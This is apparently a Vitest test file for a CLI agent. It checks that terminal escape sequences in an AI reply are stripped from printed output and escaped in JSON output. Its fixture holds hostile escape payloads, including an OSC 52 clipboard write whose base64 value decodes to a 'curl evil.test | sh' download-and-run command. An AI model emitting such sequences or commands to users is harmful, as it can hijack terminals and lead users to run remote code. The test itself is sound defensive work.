import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';

/**
 * A reply (from Claude, or Asana text Claude repeats) carrying terminal escape sequences: OSC 0
 * retitles the window, OSC 52 writes the clipboard, CSI clears the screen, a C1 CSI (U+009B)
 * does the same on terminals that honour C1, a carriage return overwrites the line. The CLI,
 * run as a child process against the suite's stack, prints none of them; `--json` keeps the
 * reply's exact value.
 */
const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const stack = inject('stack');
const marker = randomBytes(6).toString('hex');
const PROMPT = `Say the escape test ${marker}`;
const REPLY =
  `Report ${marker}.\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u0007` +
  `\u001b[2J\u009b31mred\u0000 col1\tcol2\nsecond line\roverwritten\u0085\u007f end`;

let dir: string;
let stackFile: string;

/** The control characters in `text` (C0 except tab and newline, DEL, C1), as code points. */
const controlsIn = (text: string) =>
  [...text]
    .map((char) => char.codePointAt(0)!)
    .filter((code) => (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f));

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'onbehalf-cli-attack-'));
  stackFile = join(dir, 'stack.json');
  writeFileSync(stackFile, JSON.stringify(stack));
  const scripted = await fetch(`${stack.modelUrl}/_control/scripts`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ match: marker, turns: [{ content: [{ type: 'text', text: REPLY }] }] }),
  });
  expect(scripted.status).toBe(200);
});

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

function agent(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const child = spawn(process.execPath, ['--import', 'tsx', 'client/agent.ts', '--stack', stackFile, ...args], {
    cwd: ROOT,
    env: {
      PATH: process.env.PATH ?? '',
      HOME: dir,
      ONBEHALF_CACHE_DIR: join(dir, 'cache'),
      AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true',
    },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  child.stdin.end('');
  const killer = setTimeout(() => child.kill('SIGKILL'), 50_000);
  return new Promise((resolve) =>
    child.on('close', (code) => {
      clearTimeout(killer);
      resolve({ code, stdout, stderr });
    }),
  );
}

describe('CLI output', { timeout: 60_000 }, () => {
  it('prints a reply with escape sequences without any control character, keeping its text, tabs and newlines', async () => {
    // Act
    const run = await agent(['--user', 'alice', '--auto-consent', PROMPT]);
    // Assess
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(`Report ${marker}.`);
    expect(controlsIn(run.stdout)).toEqual([]);
    expect(controlsIn(run.stderr)).toEqual([]);
    expect(run.stdout).toContain('red col1\tcol2\nsecond lineoverwritten end');
  });

  it('--json keeps the reply exactly, with every control character escaped in the JSON text', async () => {
    // Act
    const run = await agent(['--user', 'alice', '--auto-consent', '--json', PROMPT]);
    // Assess
    expect(run.code).toBe(0);
    expect(controlsIn(run.stdout)).toEqual([]);
    const outcomes = run.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { status: string; reply: string });
    expect(outcomes.at(-1)).toMatchObject({ status: 'completed', reply: REPLY });
  });
});
